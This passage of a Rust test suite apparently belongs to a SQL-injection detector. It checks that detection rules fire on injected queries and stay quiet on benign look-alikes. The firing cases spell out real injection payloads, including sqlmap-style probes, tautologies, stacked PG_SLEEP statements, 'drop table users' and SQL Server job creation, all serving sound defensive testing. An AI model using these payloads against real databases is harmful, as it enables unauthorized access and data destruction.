        prop_assert!(findings(&sql, &APP).is_empty(), "{}", sql);
    }
}

#[test]
fn quote_breaks_and_foreign_operators() {
    // A string glued to an operator keyword; a second comparison after a
    // string, whatever comes between.
    fires(
        Rule::ChainedComparison,
        &APP,
        &[
            "SELECT id FROM users WHERE name = 'aa'or column!='1'",
            "SELECT id FROM users WHERE name = 'aa'IS NOT NULL or+1^+'0'",
            "SELECT id FROM users WHERE name = 'aa' / current_date != '1'",
            "SELECT id FROM users WHERE name = 'aa'|LOCALTIME*0!='1 '",
            "SELECT id FROM users WHERE name = '1' * id - '0'",
            "SELECT id FROM users WHERE name = '1'/column is not null - ' '",
        ],
    );
    // MySQL's infix operators and SQL Server's statements.
    fires(
        Rule::ForeignSyntax,
        &APP,
        &[
            "SELECT id FROM users WHERE id = 1 DIV(SELECT 1)",
            "SELECT id FROM users WHERE name = '1' OR '1' XOR '0'",
            "SELECT id FROM users WHERE id = 1 AND 1 SOUNDS LIKE 1",
            "SELECT id FROM users WHERE name = '4' MOD 2 like '0'",
            "SELECT id FROM users WHERE name = '1' or current_user rlike'0'",
            "SELECT id FROM users WHERE name = '';if 1=1 drop table users-- -a'",
            "SELECT id FROM users WHERE id = 1; BEGIN DECLARE @xy varchar(8000)",
            "SELECT id FROM users WHERE id = EXEC sp_add_job @job_name = 'TestJob';",
            "SELECT id FROM users WHERE id = 1; EXEC(@S);",
            "SELECT id FROM users WHERE id = asd\"or-1=\"-1",
            "SELECT id FROM users WHERE id = 1\"OR!\"a",
            "SELECT id FROM users WHERE id = EXECUTE sp_add_job @job_name = 'TestJob';",
            "SELECT id FROM users WHERE id = (SELECT 1 FROM DUAL)",
            "SELECT id FROM users WHERE id = @version--",
        ],
    );
    // sqlmap's probes of two random numbers; a union left without a branch.
    fires(
        Rule::ConstantCondition,
        &APP,
        &[
            "SELECT id FROM users WHERE id = (CASE WHEN 4518=5617 THEN 1 ELSE NULL END)",
            "SELECT id FROM users WHERE id = FOO,IIF(2510=9436,FOO,1/0)",
        ],
    );
    fires(
        Rule::CommentAfterLiteral,
        &APP,
        &["SELECT id FROM users WHERE id = (@x OR @y) UNION ALL SELECT a, b FROM users-- "],
    );
    fires(
        Rule::UnionColumnMismatch,
        &APP,
        &[
            "SELECT id FROM users WHERE id = 1 union select",
            "SELECT id FROM users WHERE id = -1 UNION ALL --",
            "SELECT id, name FROM users WHERE id = $$x$$ union select * from foo",
        ],
    );
    // Their look-alikes.
    quiet(
        &APP,
        &[
            "SELECT id FROM users WHERE name = 'aa' OR email != '1'",
            "SELECT id FROM users WHERE name = 'a' AND (b = 'c') = true",
            "SELECT id FROM users WHERE name = 'x' AND created <= now() - interval '1 day'",
            "SELECT 'a' AS x, count(*) div FROM t",
            "SELECT x mod, y FROM t WHERE mod(x, 2) = 0 AND div = 1",
            "SELECT id FROM users WHERE regexp = 'x' AND xor IS NULL",
            "SELECT id FROM users WHERE id = '60;S MOD DRESSES'",
            "SELECT id FROM users WHERE 2024 = year AND id < 1000 AND x = 1000 + 1234",
            "SELECT CASE WHEN 1 = 1 THEN 'a' END FROM t",
            "SELECT a\"b\" FROM t WHERE a = 1",
            "SELECT id FROM t UNION ALL SELECT id FROM u",
            "DECLARE c CURSOR FOR SELECT 1",
            "EXECUTE stmt(1)",
            "SELECT id FROM users WHERE name = '4'+X+4'+WOOD'",
            "SELECT id FROM users WHERE name = 'MISTERGLAS.DK'*''''''''''",
            "SELECT id FROM users WHERE ts >= '2024-01-01' - interval '1 day' AND id = 1",
            "SELECT id FROM users WHERE id = 'zzh7W_krs4jSNwVV2TssQsSbOj--'",
            "SELECT id FROM users WHERE id = zzh7W--",
            "SELECT id FROM users -- all of them",
            "SELECT id FROM users--\nWHERE id = 1",
            "SELECT seq.nextval FROM dual",
            "SELECT @ x FROM t",
            "SELECT * FROM a UNION SELECT * FROM b",
            "SELECT id, name FROM a UNION SELECT * FROM b",
        ],
    );
}

#[test]
fn bare_subqueries_constant_cases_and_foreign_functions() {
    fires(
        Rule::BareSubquery,
        &APP,
        &[
            "SELECT id FROM users WHERE id = SELECT CHAR(0x66)",
            "SELECT id FROM users WHERE id = 1 AND SELECT 1 FROM t -- 1",
            "SELECT id, title FROM products ORDER BY SELECT 1",
            "SELECT id FROM users WHERE id = (select substr(login)",
            "SELECT id FROM users WHERE id = 1 AND (SELECT 1 FROM t -- 1",
        ],
    );
    fires(
        Rule::ConstantCondition,
        &APP,
        &[
            "SELECT id FROM products ORDER BY case when 2 then 3 end",
            "SELECT id FROM products ORDER BY case when 's' then 3 end",
        ],
    );
    fires(
        Rule::ForeignSyntax,
        &APP,
        &[
            "SELECT id FROM products ORDER BY 1 order by if(1<2 ,uname,uid)",
            "SELECT id FROM users WHERE id = 1 - ORD('A')",
            "SELECT id FROM users WHERE id = AND ISNULL(1/0)",
            "SELECT id FROM users WHERE id = conv(hex(substr(version() FROM 1 FOR 2)),16,10)",
            "SELECT id FROM users WHERE name = '' or MATCH username AGAINST ('+admin' IN BOOLEAN MODE)",
            "SELECT id FROM users WHERE name = '0' / current_date XOR '1'",
        ],
    );
    fires(
        Rule::CommentAfterLiteral,
        &APP,
        &[
            "SELECT id FROM users WHERE id = @@new union#sqlmap\nselect 1",
            "SELECT id FROM users WHERE id = users.id\n#asd\nunion\n#asd\nselect 1",
        ],
    );
    quiet(
        &APP,
        &[
            "INSERT INTO t SELECT id FROM u",
            "INSERT INTO t (a, b) SELECT a, b FROM u",
            "CREATE TABLE x AS SELECT 1",
            "SELECT id FROM users WHERE id IN (SELECT id FROM u) AND EXISTS (SELECT 1 FROM v)",
            "DECLARE c CURSOR FOR SELECT 1",
            "SELECT CASE x WHEN 2 THEN 'a' END, CASE WHEN true THEN 1 END FROM t",
            "SELECT CASE WHEN x = 2 THEN 'a' END FROM t",
            "INSERT INTO hex (a) VALUES (1)",
            "CREATE TABLE IF NOT EXISTS t (a int)",
            "SELECT s.mid(x), mod(a, 2), hex FROM t",
            "SELECT a # b, 5 # 3 FROM t",
            "SELECT a\n  # b FROM t",
            "SELECT id FROM users WHERE name = '' OR match = 'against'",
        ],
    );
}

#[test]
fn misplaced_quote() {
    // sqlmap's string-context boundaries sent into an `ORDER BY` or numeric
    // slot: the quote opens a string that holds the injected condition.
    fires(
        Rule::MisplacedQuote,
        &APP,
        &[
            "SELECT id, name, price FROM items ORDER BY id' AND 2798=3435 AND 'PKmT'='PKmT",
            "SELECT id, name, price FROM items ORDER BY id') AND 6383=5506 AND ('uVTw'='uVTw",
            "SELECT id, name, price FROM items ORDER BY id') AND 2271=CAST((CHR(113)||CHR(122))\
             ||(SELECT (CASE WHEN (2271=2271) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC) \
             AND ('hQpL'='hQpL",
            "SELECT id FROM users WHERE id = 1' or '1'='1",
            "SELECT id FROM users WHERE id = 1' XOR '1'='1",
            // Never closed, so PostgreSQL fails to lex it: what follows the
            // quote is a stacked statement or a condition, then a comment.
            "SELECT id, name, price FROM items ORDER BY id';SELECT PG_SLEEP(1)--",
            "SELECT id, name, price FROM items ORDER BY id');SELECT PG_SLEEP(1)--",
            "SELECT id FROM users WHERE id = 1' or 1=1 --",
            "SELECT id FROM users WHERE id = 1') OR 1=1-- x",
        ],
    );
    // Benign text with quotes in the same slots, typed literals, and
    // injections whose quote is not glued to a value.
    quiet(
        &APP,
        &[
            "SELECT id FROM products ORDER BY rock'n'roll",
            "SELECT id FROM products ORDER BY 5' and 6' tall",
            "SELECT id FROM products ORDER BY 5' and 6'tall",
            "SELECT id FROM products ORDER BY I' IS NOT A PLASTIC BAG",
            "SELECT id FROM products ORDER BY WOMEN';S ART DEC",
            "SELECT id FROM products ORDER BY O' UNION selected a few friends",
            "SELECT id FROM products ORDER BY BLUE -CCBCUSTOMDRESSES' -SHOES -HEEL --INFANT -KID",
            "SELECT id FROM products ORDER BY 1950' AND 60'S WOMEN'S COATS WITH FAKE",
            "SELECT id FROM products ORDER BY tom' and jerry",
            "SELECT id FROM products ORDER BY tom'; select me",
            "SELECT id FROM products ORDER BY tom'; and -- me\nmore",
            "SELECT date'2024-01-01', interval'1 day', E'a' FROM t WHERE a = 'x' AND b = 'y'",
            "SELECT id FROM users WHERE name = 'a'||'b' AND x = 'c' OR y = 'd'",
        ],
    );
    // Found whatever the role.
    fires(
        Rule::MisplacedQuote,
        &ADMIN,
        &["SELECT id FROM items ORDER BY id' AND 1=1 AND 'a'='a"],
    );
}
